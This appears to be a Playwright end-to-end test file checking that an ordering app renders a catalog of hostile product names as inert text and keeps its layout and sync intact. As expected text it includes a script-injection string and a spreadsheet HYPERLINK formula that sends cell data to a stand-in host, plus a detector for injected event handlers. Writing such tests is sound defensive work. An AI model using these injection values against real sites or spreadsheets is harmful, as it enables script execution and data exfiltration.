import type { Page } from "@playwright/test";
import { HOSTILE } from "#sandbox/catalog/hostile.ts";
import { expect, test } from "#e2e/fixtures/test.ts";
import { completed } from "#e2e/support/completed.ts";
import { fillDraft, referenceOf, reviewAndSend } from "#scripts/browser/orderSteps.ts";
import { overfull } from "#e2e/support/overfull.ts";
import { resyncCatalog } from "#e2e/support/resyncCatalog.ts";

// The catalogs are switched one after the other on one test stack; afterwards the usual one is back.
test.describe.configure({ mode: "default" });
test.afterAll(async ({ stack }) => {
  await stack.control("POST", "reset");
  await resyncCatalog(stack);
});

const orderable = HOSTILE.flatMap(({ product }) => product ?? []);
/** The properties that determine what a product's sheet offers. */
const AWKWARD = [
  "a negative price",
  "the largest price",
  "a minimum above the maximum",
  "a step of zero",
  "a negative step",
  "open without bounds",
  "a currency of markup",
  "no currency",
  "200 levels",
];

/** Collects problems in a page: errors, refused scripts, dialogs, requests to other hosts. */
function troubleOf(page: Page, home: string): string[] {
  const trouble: string[] = [];
  page.on("pageerror", (error) => trouble.push(`error: ${error.message}`));
  page.on("console", (message) => {
    if (message.type() === "error") trouble.push(`console: ${message.text()}`);
  });
  page.on("dialog", (dialog) => {
    trouble.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const url = new URL(request.url());
    if (url.protocol.startsWith("http") && url.origin !== home) trouble.push(`request: ${request.url()}`);
  });
  return trouble;
}

/** Expects that no text of the service has become an element, and that nothing is wider than the page. */
async function expectWhole(page: Page): Promise<void> {
  await expect(page.getByText(/Something went wrong/)).toHaveCount(0);
  const found = await page.evaluate(() => ({
    ran: "hostile" in window,
    made: document.querySelectorAll("[onerror], [onfocus], [onclick], img[src='x'], a[href^='javascript']")
      .length,
    // Negative: the space that is reserved for a scroll bar.
    sticksOut: Math.max(0, document.documentElement.scrollWidth - document.documentElement.clientWidth),
  }));
  expect(found).toEqual({ ran: false, made: 0, sticksOut: 0 });
}

// Half of the products are opened on a phone, the other half on a wide screen.
for (const [width, opened] of [
  [1_280, AWKWARD.map(idOf)],
  [375, orderable.map(({ id }) => id)],
] as const) {
  test(`hostile products are listed and opened, at ${width} px, and nothing of them runs or breaks the layout`, async ({
    asBuyer: page,
    stack,
  }) => {
    await stack.control("POST", "settings", { catalog: "hostile" });
    expect(await resyncCatalog(stack)).toMatchObject({ complete: true });
    const trouble = troubleOf(page, stack.url);
    await page.setViewportSize({ width, height: 800 });
    await page.goto("/catalog?q=hostile", { waitUntil: "networkidle" });
    const rows = page
      .getByRole("main")
      .getByRole("row")
      .filter({ has: page.getByRole("link") });
    await expect(rows.filter({ hasText: "Markup <script>" })).toBeVisible();
    await expectWhole(page);
    // All rows have the same height, whatever their texts.
    const heights = await rows.evaluateAll((all) =>
      all.map((row) => Math.round(row.getBoundingClientRect().height)),
    );
    expect([...new Set(heights)], JSON.stringify(heights)).toHaveLength(1);

    for (const id of opened) {
      await page.goto(`/catalog?product=${id}`);
      const sheet = page.getByRole("dialog");
      await expect(sheet).toContainText(/as of/i);
      await expect(sheet).toContainText(String(id));
      await expect(sheet).not.toContainText(/NaN|undefined|Infinity/);
      await expectWhole(page);
    }
    expect(trouble).toEqual([]);
  });
}

test("products with hostile names can be bought, and draft, review, order and list show the names unchanged", async ({
  asBuyer: page,
  stack,
}) => {
  const trouble = troubleOf(page, stack.url);
  await stack.control("POST", "settings", { catalog: "hostile" });
  expect(await resyncCatalog(stack)).toMatchObject({ complete: true });
  await fillDraft(
    page,
    orderable.map(({ id }) => ({ productId: id, countryCode: "DE" })),
  );

  await page.goto("/orders/new");
  const total = `€${(10 * orderable.length).toFixed(2)}`;
  await expect(page.getByRole("region", { name: "Totals" })).toContainText(total);
  await expectWhole(page);
  await picksInOrder(page);
  await reviewAndSend(page);
  const reference = await referenceOf(page);
  await expect(completed(page)).toBeVisible();
  const ordered = page.getByRole("table", { name: "Lines of the order" });
  await expect(ordered).toContainText(`Markup <script>window.hostile=1</script>`);
  await expect(ordered).toContainText(`=HYPERLINK("https://hostile.example/?"&A1,"Formula")`);
  await expect(ordered).toContainText("Product 800006");
  await expectWhole(page);
  for (const screen of ["/orders", "/", `/orders?product=${orderable[0]?.id ?? 0}`]) {
    await page.goto(screen);
    await expect(page.getByRole("link", { name: reference }).first()).toBeVisible();
    await expectWhole(page);
  }
  expect(trouble).toEqual([]);
});

test("the longest amounts stay in their places in the order builder, and those without a currency are minor units", async ({
  asBuyer: page,
  stack,
}) => {
  await stack.control("POST", "settings", { catalog: "hostile" });
  expect(await resyncCatalog(stack)).toMatchObject({ complete: true });
  const names = ["a currency of markup", "no currency", "the largest price"];
  await fillDraft(
    page,
    names.map((name) => ({ productId: idOf(name), countryCode: "DE" })),
  );
  await page.goto("/orders/new");
  for (const width of [1_280, 768, 375]) {
    await page.setViewportSize({ width, height: 800 });
    const row = page.getByRole("row").filter({ hasText: "No currency" });
    await expect(row).toContainText("1,000 minor units");
    await expect(page.getByRole("region", { name: "Totals" })).toContainText("€90,071,992,547,409.91");
    const places = page.getByRole("main").locator("[role=cell], section p");
    expect(await overfull(places), `${width} px`).toEqual([]);
    await expectWhole(page);
  }
});

/** Expects that the text after a name with an unterminated override reads as it was written: D before E. */
async function picksInOrder(page: Page): Promise<void> {
  await page.getByRole("combobox", { name: "Add a product" }).fill("Bidi");
  const option = page.getByRole("option").filter({ hasText: "Bidi" });
  await expect(option).toBeVisible();
  const [first, second] = await option.getByText("DE", { exact: true }).evaluate((element) => {
    const text = element.firstChild;
    if (text === null) return [];
    return [0, 1].map((at) => {
      const range = document.createRange();
      range.setStart(text, at);
      range.setEnd(text, at + 1);
      return range.getBoundingClientRect().left;
    });
  });
  expect(first).toBeLessThan(second ?? 0);
  await page.keyboard.press("Escape");
}

test("the settings list unreadable products with the reason", async ({ asAdmin: page, stack }) => {
  const trouble = troubleOf(page, stack.url);
  await stack.control("POST", "settings", { catalog: "hostile" });
  expect(await resyncCatalog(stack)).toMatchObject({ complete: true });
  await page.goto("/settings?tab=connection");
  await page.getByText("10 records").click();
  for (const reason of [
    "not an object",
    "no id, or one that is not an integer",
    "the id -7 is not positive",
    "Product 800100 is on one page twice; the later record is used.",
  ]) {
    await expect(page.getByText(reason).first()).toBeVisible();
  }
  await expectWhole(page);
  expect(trouble).toEqual([]);
});

test("synchronising a list that repeats itself ends with a clear message, and its products can be used", async ({
  asAdmin: page,
  stack,
}) => {
  await stack.control("POST", "settings", { catalog: "repeating" });
  const pass = await resyncCatalog(stack);
  expect(pass).toMatchObject({ complete: false, seen: 100 });
  await page.goto("/catalog");
  await expect(page.getByText("This list may be incomplete or out of date")).toBeVisible();
  await expect(page.getByText(/Its list may ignore "skip"/)).toBeVisible();
  await expect(
    page
      .getByRole("row")
      .filter({ has: page.getByRole("link") })
      .first(),
  ).toBeVisible();
  await page.goto("/settings?tab=connection");
  await expect(page.getByText(/Last update failed: The service returned the same products/)).toBeVisible();
});

function idOf(what: string): number {
  const record = HOSTILE.find((each) => each.what === what)?.record;
  if (typeof record !== "object" || record === null || !("id" in record))
    throw new Error(`no record: ${what}`);
  return Number(record.id);
}
